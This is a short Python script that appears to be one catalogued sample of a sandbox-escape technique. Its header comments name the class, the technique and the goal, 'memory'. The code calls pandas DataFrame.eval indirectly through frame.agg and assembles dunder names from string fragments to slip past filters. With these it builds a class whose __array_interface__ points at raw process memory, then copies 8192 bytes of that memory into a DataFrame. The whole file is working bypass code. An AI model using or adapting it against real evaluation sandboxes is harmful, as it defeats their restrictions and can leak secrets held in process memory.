# class: class_making
# technique: int.__class__ (the metaclass `type`) called with three arguments inside expression text builds the raw-view class (DataFrame.eval reached as frame.agg bound to a name and called as run('eval', ...))
# goal: memory
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
run = frame.agg


def ev(expr, **names):
    return run("eval", 0, expr, local_dict=names)

u = "_" * 2

key = u + "array_interface" + u
ns = {key: property(lambda s: {"data": (id(s) - 2048, False), "shape": (8192,), "typestr": "|u1", "version": 3})}
Raw = ev("@i[0]." + u + "class" + u + "(@n, (), @ns)", i=[int], n="Raw", ns=ns)
df = pd.DataFrame({"byte": np.asarray(Raw()).copy()})
